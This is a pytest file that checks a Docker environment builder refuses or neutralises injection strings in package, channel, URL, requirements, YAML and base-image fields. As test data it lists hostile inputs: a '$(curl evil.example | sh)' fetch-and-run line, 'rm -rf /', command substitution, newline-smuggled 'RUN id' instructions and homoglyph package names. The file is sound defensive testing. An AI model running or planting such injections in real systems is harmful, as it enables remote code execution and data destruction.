"""Injection safety: attack strings in every field a user types are refused with a message naming the field,
or, when they are legitimately valid, shown not to add a Dockerfile instruction, a shell command or a line."""

from __future__ import annotations

import copy

import pytest
import yaml
from pydantic import ValidationError

from kenv.errors import describe_validation_error
from kenv.models import spec_from_body
from kenv.render import render_context
from kenv.validation import canonical_dockerfile, canonical_requirements, requirement_line_problem

NEWLINES = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "\x1c"]
ATTACKS = (
    [f"numpy{nl}RUN id" for nl in NEWLINES]
    + [
        "numpy && id",
        "numpy || id",
        "numpy; rm -rf /",
        "numpy | sh",
        "numpy`id`",
        "`id`",
        "numpy$(id)",
        "$(curl evil.example | sh)",
        "numpy'",
        'numpy"',
        "numpy' && id '",
        "numpy\\",
        "numpy > /etc/passwd",
        "numpy\x00",
        "numpy\tRUN id",
        "a" * 10_000,
        "numpy==1.26.4" + " " * 5000 + "x",
        "ｎｕｍｐｙ",  # fullwidth
        "nаmpy",  # Cyrillic а
        "numpу",  # Cyrillic у
        "num\u200bpy",  # zero-width space
        "nu\u0301mpy",  # combining accent
    ]
)


def put(template: dict, value: str) -> dict:
    """A copy of `template` with the string "@" replaced by `value` (in keys' values and list items)."""

    def walk(node):
        if isinstance(node, dict):
            return {k: walk(v) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v) for v in node]
        return node.replace("@", value) if isinstance(node, str) else node

    return walk(copy.deepcopy(template))


def env_yaml(document: dict) -> str:
    return yaml.safe_dump(document, allow_unicode=True)


# (field path the message must start with, body template with "@" where the attack goes, harmless value)
FIELDS = [
    ("spec.pip.packages[1]", {"pip": {"packages": ["rich", "@"]}}, "numpy"),
    ("spec.conda.pipPackages[0]", {"conda": {"pipPackages": ["@"]}}, "numpy"),
    ("spec.conda.packages[0]", {"conda": {"packages": ["@"]}}, "numpy"),
    ("spec.conda.channels[0]", {"conda": {"channels": ["@"], "packages": ["numpy"]}}, "conda-forge"),
    ("spec.pip.indexUrl", {"pip": {"packages": ["rich"], "indexUrl": "https://x.example/@"}}, "simple"),
    ("spec.pip.extraIndexUrls[0]", {"pip": {"packages": ["rich"], "extraIndexUrls": ["https://x.example/@"]}},
     "simple"),
    ("spec.pip.requirements line ", {"pip": {"requirements": "rich\n@\n"}}, "numpy"),
    ("spec.docker.baseImage", {"docker": {"baseImage": "@"}}, "python:3.11"),
    ("spec.docker.baseImage", {"docker": {"baseImage": "python:@"}}, "3.11"),
]


def yaml_field(path: str, template: dict, harmless: str) -> tuple[str, dict, str, str]:
    return path, {"conda": {"environmentYaml": "@"}}, env_yaml(template), env_yaml(put(template, harmless))


YAML_FIELDS = [
    ("spec.conda.environmentYaml: dependencies[1]", {"dependencies": ["python=3.11", "@"]}, "numpy"),
    ("spec.conda.environmentYaml: dependencies[1].pip[0]", {"dependencies": ["pip", {"pip": ["@"]}]}, "numpy"),
    ("spec.conda.environmentYaml: channels[0]", {"channels": ["@"], "dependencies": ["numpy"]}, "conda-forge"),
]


def assert_refused_or_harmless(body: dict, reference: dict, path: str) -> None:
    try:
        spec = spec_from_body(body)
    except ValidationError as error:
        message = describe_validation_error(error)
        assert message.startswith(path), message
        assert len(message.splitlines()) == 1 and "\r" not in message, message
        assert len(message) < 600, message  # long values are cut
        return
    context, harmless = render_context(spec), render_context(spec_from_body(reference))
    # Valid: the Dockerfile is the one of the harmless spec (only the validated base image may differ).
    if not path.startswith("spec.docker"):
        assert context.files["Dockerfile"] == harmless.files["Dockerfile"]
    # Data files stay parseable and every requirements line is one the validator accepts.
    requirements = context.files.get("requirements.txt", "")
    assert canonical_requirements(requirements) == requirements.splitlines()
    assert all(requirement_line_problem(line) is None for line in requirements.splitlines())
    assert yaml.safe_load(context.files.get("environment.yml", "{}")) is not None


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: repr(a[:24]))
@pytest.mark.parametrize(("path", "template", "harmless"), FIELDS, ids=[f[0] + str(i) for i, f in enumerate(FIELDS)])
def test_attack_in_field_is_refused_or_harmless(path, template, harmless, attack):
    assert_refused_or_harmless(put(template, attack), put(template, harmless), path)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: repr(a[:24]))
@pytest.mark.parametrize(("path", "template", "harmless"), YAML_FIELDS, ids=[f[0] for f in YAML_FIELDS])
def test_attack_in_environment_yaml_is_refused_or_harmless(path, template, harmless, attack):
    document = put(template, attack)
    body = {"conda": {"environmentYaml": env_yaml(document)}}
    reference = {"conda": {"environmentYaml": env_yaml(put(template, harmless))}}
    assert_refused_or_harmless(body, reference, path)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            {"pip": {"packages": ["rich", "numpy", "numpy;rm -rf"]}},
            "spec.pip.packages[2]: 'numpy;rm -rf' is not a PEP 508 requirement (e.g. numpy==1.26.4): ",
        ),
        ({"pip": {"packages": ["ｎｕｍｐｙ"]}},
         "spec.pip.packages[0]: 'ｎｕｍｐｙ' contains 'ｎ' (U+FF4E); only printable"),
        ({"conda": {"pipPackages": ["nаmpy"]}}, "spec.conda.pipPackages[0]: 'nаmpy' contains 'а' (U+0430)"),
        ({"pip": {"packages": ["x @ https://x.example/a'b"]}}, "spec.pip.packages[0]: \"x @ https://x.example/a'b\": "
         "the URL must be"),
        ({"pip": {"requirements": "rich\nnumpy && id\n"}},
         "spec.pip.requirements line 2: 'numpy && id' is not a PEP 508"),
        ({"pip": {"requirements": "rich\n\n\nx" + "y" * 5000}}, "spec.pip.requirements line 4: 'xyyy"),
        ({"pip": {"requirements": "rich\n-e git+https://x/y#egg=y\n"}},
         "spec.pip.requirements line 2: option '-e' is not allowed here (allowed: -i/--index-url"),
        ({"pip": {"requirements": "--index-url 'https://x.example'\n"}},
         "spec.pip.requirements line 1: \"--index-url 'https://x.example'\": quotes and backslashes"),
        ({"pip": {"requirements": "--index-url ftp://x.example\n"}},
         "spec.pip.requirements line 1: --index-url: 'ftp://x.example' is not an http(s) URL"),
        ({"pip": {"requirements": "--index-url\n"}}, "spec.pip.requirements line 1: option --index-url needs a value"),
        ({"pip": {"requirements": "numpy --hash=md5:abc\n"}},
         "spec.pip.requirements line 1: --hash: 'md5:abc' is not sha256:"),
        ({"pip": {"requirements": "numpy --no-deps\n"}},
         "spec.pip.requirements line 1: only --hash=sha256:... may follow a requirement, not '--no-deps'"),
        ({"conda": {"packages": ["numpy=1.26", "numpy[version='>=1']"]}},
         "spec.conda.packages[1]: \"numpy[version='>=1']\" is not a conda match spec"),
        ({"conda": {"channels": ["https://conda.example.com/a b"]}}, "spec.conda.channels[0]: "),
        ({"conda": {"environmentYaml": "dependencies:\n  - python=3.11\n  - 3.10\n"}},
         "spec.conda.environmentYaml: dependencies[1]: 3.1 is not a string (quote versions such as '3.10')"),
        ({"conda": {"environmentYaml": "dependencies:\n  - pip:\n      - \"rich\\nRUN id\"\n"}},
         "spec.conda.environmentYaml: dependencies[0].pip[0]: 'rich\\nRUN id' must be exactly one line"),
        ({"conda": {"environmentYaml": "dependencies:\n  - {pip: [rich], conda: [x]}\n"}},
         "spec.conda.environmentYaml: dependencies[0]: only a `pip:` list may be a mapping here"),
        ({"conda": {"environmentYaml": "channels: conda-forge\n"}},
         "spec.conda.environmentYaml: channels must be a list"),
        ({"pip": {"indexUrl": "https://pyрi.org/simple"}}, "spec.pip.indexUrl: String should match pattern"),
        ({"docker": {"baseImage": "pythоn:3.11"}}, "spec.docker.baseImage: String should match pattern"),
        ({"environmentVariables": {"A\n": "x"}}, "spec.environmentVariables: 'A\\n' is not a valid variable name"),
    ],
)
def test_messages(body, message):
    with pytest.raises(ValidationError) as info:
        spec_from_body(body)
    assert describe_validation_error(info.value).startswith(message)


def test_long_values_are_cut_in_messages():
    with pytest.raises(ValidationError) as info:
        spec_from_body({"pip": {"requirements": "numpy&&" + "x" * 10_000}})
    message = describe_validation_error(info.value)
    assert message.startswith("spec.pip.requirements line 1: 'numpy&&xxx")
    assert "(10007 characters)" in message and len(message) < 300


@pytest.mark.parametrize(
    "line",
    [
        "-r other.txt",
        "  -c constraints.txt",
        "--requirement=x.txt",
        "--requirement x.txt",
        "-rfile.txt",
        "--req x.txt",  # optparse takes unambiguous prefixes
        "--constr x.txt",
        "-\\\nr x.txt",  # continuation lines are joined before checking, as pip does
        "-r\\\n x.txt",
        "\\-r x.txt\\",
        "numpy -r x.txt",
        "numpy \\\n-c x.txt",
    ],
)
def test_includes_are_refused_even_through_continuations(line):
    with pytest.raises(ValidationError) as info:
        spec_from_body({"pip": {"requirements": f"rich\n{line}\n"}})
    message = describe_validation_error(info.value)
    assert message.startswith("spec.pip.requirements line 2: ")
    assert "includes (-r/-c)" in message


@pytest.mark.parametrize(
    "body",
    [
        "numpy==1.26.4\n",
        "numpy>=1.26,<2 ; python_version >= \"3.10\"\n",
        "torch[cuda]==2.4.0 --hash=sha256:" + "a" * 64 + " --hash sha256:" + "b" * 64 + "  # pinned\n",
        "numpy==1.26.4 \\\n    --hash=sha256:" + "c" * 64 + "\n",
        "mypkg @ https://files.example.com/mypkg-1.0-py3-none-any.whl#sha256=" + "d" * 64 + "\n",
        "https://files.example.com/mypkg-1.0-py3-none-any.whl\n",
        "git+https://github.com/org/repo@v1.0#egg=repo\n",
        "-i https://pypi.example.com/simple\n--index-url=https://pypi.example.com/simple\n",
        "--extra-index-url https://download.pytorch.org/whl/cu121\n-f https://x.example/wheels\n--find-links /wheels\n",
        "--trusted-host pypi.example.com:8443\n--pre\n--prefer-binary\n--require-hashes\n",
        "--only-binary :all:\n--no-binary numpy,scipy\n",
        "# comment with ünïcode and `backticks` $(not run)\n\n   \n",
        "numpy  # trailing comment; rm -rf /\n",
        "rich\u2028numpy\n",  # pip splits on U+2028 too: two requirements
    ],
)
def test_valid_requirements_bodies(body):
    spec = spec_from_body({"pip": {"requirements": body}})
    context = render_context(spec)
    lines = context.files["requirements.txt"].splitlines()
    assert lines == canonical_requirements(body)
    assert all(requirement_line_problem(line) is None for line in lines)
    assert context.files["Dockerfile"] == render_context(spec_from_body({"pip": {"packages": ["rich"]}})).files[
        "Dockerfile"
    ]


@pytest.mark.parametrize(
    "package",
    ["numpy=1.26", "numpy >=1.26,<2", "numpy>=1.26", "conda-forge::numpy", "pkgs/main::numpy=1.26",
     "numpy 1.26.* py311*", "numpy=1.26.4=py311h*", "pytorch-cuda=12.1", "libgcc-ng", "python_abi=3.11=*_cp311",
     "numpy !=1.25", "numpy 1.26|1.27"],
)
def test_valid_conda_match_specs(package):
    spec = spec_from_body({"conda": {"packages": [package]}})
    assert package in yaml.safe_load(render_context(spec).files["environment.yml"])["dependencies"]


@pytest.mark.parametrize(
    "channel", ["conda-forge", "pytorch", "pkgs/main", "nodefaults", "https://conda.example.com/channel/x"]
)
def test_valid_channels(channel):
    assert spec_from_body({"conda": {"channels": [channel], "packages": ["numpy"]}}).conda is not None


@pytest.mark.parametrize(
    "image",
    ["ｐython:3.11", "pythоn:3.11", "python:3.11\n", "python:3.11\u2028RUN id", "python:3.11 AS x",
     "python:3.11;id", "python:$(id)", "python:`id`", "python:3.11\"", "python:" + "1" * 10_000],
)
def test_base_image_refuses_look_alikes_and_breaks(image):
    with pytest.raises(ValidationError) as info:
        spec_from_body({"docker": {"baseImage": image}})
    assert describe_validation_error(info.value).startswith("spec.docker.baseImage: ")


def test_valid_environment_yaml_from_azure_ml_round_trip_with_pip_options():
    text = (
        "name: project_environment\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip\n"
        "  - pip:\n    - --index-url https://pypi.example.com/simple\n    - rich==13.7.1\n"
    )
    spec = spec_from_body({"conda": {"environmentYaml": text}})
    document = yaml.safe_load(render_context(spec).files["environment.yml"])
    assert document["dependencies"][-1] == {"pip": ["--index-url https://pypi.example.com/simple", "rich==13.7.1"]}


def test_canonical_dockerfile_is_idempotent_and_keeps_instructions():
    text = "FROM a:1  \r\n\r\n# c \nRUN x \\  \n\n  y\nENV A=1\n\n"
    once = canonical_dockerfile(text)
    assert once == "FROM a:1\n# c\nRUN x \\\n  y\nENV A=1"
    assert canonical_dockerfile(once) == once
